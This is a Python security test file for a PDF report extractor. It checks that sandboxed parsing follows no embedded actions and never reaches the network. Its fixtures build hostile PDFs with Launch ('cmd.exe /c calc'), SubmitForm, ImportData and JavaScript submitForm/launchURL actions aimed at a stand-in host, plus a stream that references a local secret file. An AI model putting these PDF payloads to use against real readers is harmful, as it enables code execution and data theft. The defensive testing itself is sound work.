"""Nothing is fetched while reports are read: links, forms, remote actions and files outside a PDF are never followed.

All runs in processes that the kernel lets talk to nobody (`no_network.py`), with their workers and PDF readers: one that tried would die, and its
report would have no records.
"""

from __future__ import annotations

import json
import os
import signal
import subprocess
import sys
from pathlib import Path

import pytest

import abstract2kb
from tests.pdf_samples import LINES, pdf
from tests.security.no_network import is_possible

ROOT = Path(__file__).parents[2]
ENVIRONMENT = {**os.environ, "PYTHONPATH": os.pathsep.join((str(Path(abstract2kb.__file__).parents[1]), str(ROOT)))}
URL = b"(http://198.51.100.7/fetched)"
ACTIONS = {
    "link": b"<< /S /URI /URI %s >>" % URL,
    "launch": b"<< /S /Launch /F %s /Win << /F (cmd.exe) /P (/c calc) >> >>" % URL,
    "remote": b"<< /S /GoToR /F << /FS /URL /F %s >> /D [0 /Fit] >>" % URL,
    "form": b"<< /S /SubmitForm /F << /FS /URL /F %s >> /Flags 4 >>" % URL,
    "import": b"<< /S /ImportData /F << /FS /URL /F %s >> >>" % URL,
    "script": b'<< /S /JavaScript /JS (app.launchURL\\("http://198.51.100.7/fetched"\\); this.submitForm\\("http://198.51.100.7/"\\);) >>',
    "sound": b"<< /S /Rendition /R << /S /MR /C << /S /MCD /D << /FS /URL /F %s >> >> >> >>" % URL,
}

pytestmark = pytest.mark.skipif(not is_possible(), reason="the kernel is asked to forbid sockets on Linux only")


def made(objects: list[bytes]) -> bytes:
    """A PDF of these objects, the first being the catalog."""
    data, offsets = b"%PDF-1.7\n", []
    for number, body in enumerate(objects, start=1):
        offsets.append(len(data))
        data += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    table = b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1) + b"".join(b"%010d 00000 n \n" % at for at in offsets)
    return data + table + b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, len(data))


def acting(action: bytes, contents: bytes = b"4 0 R", last: bytes = b"<< /Length 0 /F << /FS /URL /F %s >> >>\nstream\n\nendstream" % URL) -> bytes:
    """A report that acts when it is opened, when its page is shown, and when a link or field on it is touched."""
    shown = b"".join(
        b"BT /F 11 Tf 1 0 0 1 50 %d Tm (%s) Tj ET\n" % (700 - 16 * n, line.replace("(", r"\(").replace(")", r"\)").encode())
        for n, line in enumerate(LINES)
    )
    return made(
        [
            b"<< /Type /Catalog /Pages 2 0 R /OpenAction %s /AA << /WC %s >> /AcroForm << /Fields [6 0 R] /XFA 7 0 R /NeedAppearances true >> >>"
            % (action, action),
            b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
            b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents %s /Annots [5 0 R 6 0 R] /AA << /O %s /C %s >> "
            b"/Resources << /Font << /F << /Type /Font /Subtype /Type1 /BaseFont /Helvetica >> >> >> >>" % (contents, action, action),
            b"<< /Length %d >>\nstream\n%s\nendstream" % (len(shown), shown),
            b"<< /Type /Annot /Subtype /Link /Rect [50 660 400 720] /A %s /AA << /PO %s /E %s >> >>" % (action, action, action),
            b"<< /Type /Annot /Subtype /Widget /FT /Tx /T (field) /V (x) /Rect [50 600 200 620] /A %s /AA << /C %s /F %s >> >>"
            % (action, action, action),
            last,
        ]
    )


def run(folder: Path, code: str, *arguments: str) -> subprocess.CompletedProcess[str]:
    (folder / "code.py").write_text(code, encoding="utf-8")
    call = [sys.executable, "-m", "tests.security.no_network", str(folder / "code.py"), *arguments]
    return subprocess.run(call, cwd=folder, env=ENVIRONMENT, capture_output=True, text=True, check=False)


CONNECTS = r"import ctypes; ctypes.CDLL(None).connect(0, b'\2\0\0\x50\x7f\0\0\1' + bytes(8), 16)"
EXTRACT = "from abstract2kb.cli import main\nmain()\n"


@pytest.mark.parametrize(
    ("code", "message"),
    [
        (CONNECTS, None),
        (f"import os\nif os.fork() == 0:\n  {CONNECTS}\nprint(os.WTERMSIG(os.wait()[1]))", str(int(signal.SIGSYS))),
        ("import socket; socket.create_connection(('198.51.100.7', 80))", "tried: socket."),
        ("import urllib.request; urllib.request.urlopen('http://198.51.100.7/')", "tried: urllib.Request"),
        ("import os; os.system('true')", "tried: os.system"),
    ],
)
def test_what_is_forbidden_does_not_happen(tmp_path: Path, code: str, message: str | None) -> None:
    done = run(tmp_path, code)
    if message is None:
        assert done.returncode == -signal.SIGSYS
    else:
        assert message in done.stdout + done.stderr


def test_reports_that_act_are_read_and_nothing_is_fetched(tmp_path: Path) -> None:
    reports = tmp_path / "reports"
    reports.mkdir()
    for name, action in ACTIONS.items():
        (reports / f"{name}.pdf").write_bytes(acting(action))
    (reports / "plain.pdf").write_bytes(pdf())
    (reports / "text.txt").write_text("QXR-707 (https://198.51.100.7/fetched) was given to 20 patients. The ORR was 40% (8/20).", encoding="utf-8")
    for engine in ("pdfium", "pdfminer"):
        out = tmp_path / f"{engine}.jsonl"
        done = run(tmp_path, EXTRACT, "extract", str(reports), "-q", "-o", str(out), "--engine", engine, "--workers", "2")
        assert (done.returncode, done.stderr) == (0, "")
        found = [json.loads(line) for line in out.read_text(encoding="utf-8").splitlines()]
        assert [r["report"]["source"] for r in found] == [*sorted(f"{name}.pdf" for name in (*ACTIONS, "plain")), "text.txt"]
        assert all([(o["n"], o["total"]) for o in r["outcomes"]] == [(8, 20)] for r in found)
        assert not [i for r in found for i in r["issues"] if i["severity"] == "error"]


def test_the_service_reads_them_without_a_socket(tmp_path: Path) -> None:
    (tmp_path / "acting.pdf").write_bytes(acting(ACTIONS["form"]))
    code = (
        "import sys\nfrom pathlib import Path\nfrom abstract2kb.serve.jobs import Job\nfrom abstract2kb.serve.settings import Limits\n"
        "from abstract2kb.serve.work import answer\n"
        "found = answer(Job('acting.pdf', Path('acting.pdf').read_bytes()), Limits())\nprint(found.problem or found.records['outcomes'])\n"
    )
    done = run(tmp_path, code)
    assert (done.stdout, done.stderr) == ("1\n", "")


@pytest.mark.parametrize("engine", ["pdfium", "pdfminer"])
def test_a_pdf_draws_in_no_file_of_this_machine(tmp_path: Path, engine: str) -> None:
    secret = tmp_path / "secret.txt"
    secret.write_bytes(b"BT /F 11 Tf 1 0 0 1 50 500 Tm (Secretamab was given to 99 patients.) Tj ET")
    data = acting(ACTIONS["link"], b"[4 0 R 7 0 R]", b"<< /Length 0 /F (%s) /FFilter [] >>\nstream\n\nendstream" % os.fsencode(secret))
    (tmp_path / "reader.pdf").write_bytes(data)
    done = run(tmp_path, EXTRACT, "text", "reader.pdf", "--engine", engine)
    assert ("QXR-707" in done.stdout) is (engine == "pdfium")  # pdfminer gives such a page up
    assert "Secretamab" not in done.stdout
    assert "Traceback" not in done.stderr
